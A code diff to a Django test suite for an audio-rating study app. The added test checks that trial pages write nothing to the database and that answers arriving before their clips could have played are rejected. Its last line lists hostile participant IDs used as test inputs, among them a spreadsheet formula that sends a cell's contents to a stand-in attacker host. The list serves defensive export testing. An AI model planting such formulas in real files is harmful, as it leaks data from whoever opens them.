@@ -1,6 +1,8 @@
 """What a bot, a speeder, a double click or someone else's link values can do: answers the
 server cannot believe are refused or flagged, and nothing else changes."""
 
+from datetime import timedelta
+
 import pytest
 from django.test import Client
 from django.urls import reverse
@@ -9,7 +11,7 @@ from metrics.reports import build_report
 from studies import services
 from studies.answers import AnswerConflict
 from studies.integrity import REASON_SPEEDER, REASON_STRAIGHT_LINER, REASON_UNHEARD
-from studies.models import Participant, Response
+from studies.models import Participant, Response, Trial
 from tests.factories import (
     ALL_BLOCKS,
     answer_all,
@@ -211,6 +213,41 @@ def test_the_participant_hot_path_stays_within_its_query_budget(
         with django_assert_max_num_queries(6):
             assert client.post(study.participant_path(), form).status_code == 302
     assert Response.objects.count() == len(trials)
+
+
+def test_showing_a_trial_page_writes_nothing_and_answers_still_wait_for_their_clips(material):
+    """A trial page is a read (on SQLite each write queues for the one database lock): the
+    answer before it, or starting the trials, stamps when it went out. The next answer must
+    still come its clips' playing time later, even with the next clip already prefetched."""
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    study = open_study(RATING_ONLY)
+    client = Client()
+    participant = take_to_trials(client, study)
+    first, second = list(participant.trials.order_by("position"))[:2]
+    for trial in (first, second):
+        with CaptureQueriesContext(connection) as page:
+            assert client.get(study.participant_path()).status_code == 200
+        writes = [
+            q["sql"] for q in page.captured_queries if q["sql"].startswith(("UPDATE", "INSERT"))
+        ]
+        assert writes == [], writes
+        trial.refresh_from_db()
+        assert trial.shown_at is not None
+        if trial == first:
+            heard(client, first)
+            prefetched = reverse("studies:clip", args=[study.access_key, second.token, 0, "mp3"])
+            assert client.get(prefetched).status_code == 200
+            assert client.post(study.participant_path(), right_answer(first)).status_code == 302
+    second.refresh_from_db()
+    Trial.objects.filter(pk=second.pk).update(
+        first_served_at=second.shown_at - timedelta(minutes=5)
+    )
+    response = client.post(study.participant_path(), right_answer(second))
+    assert response.status_code == 400
+    assert "sooner than the clip could have been played" in response.content.decode()
+    assert Response.objects.count() == 1
 
 
 HOSTILE_IDS = ['=HYPERLINK("http://evil/?"&A1)', "@SUM(1+1)", "+1+1", "-2+3", "'=already quoted"]
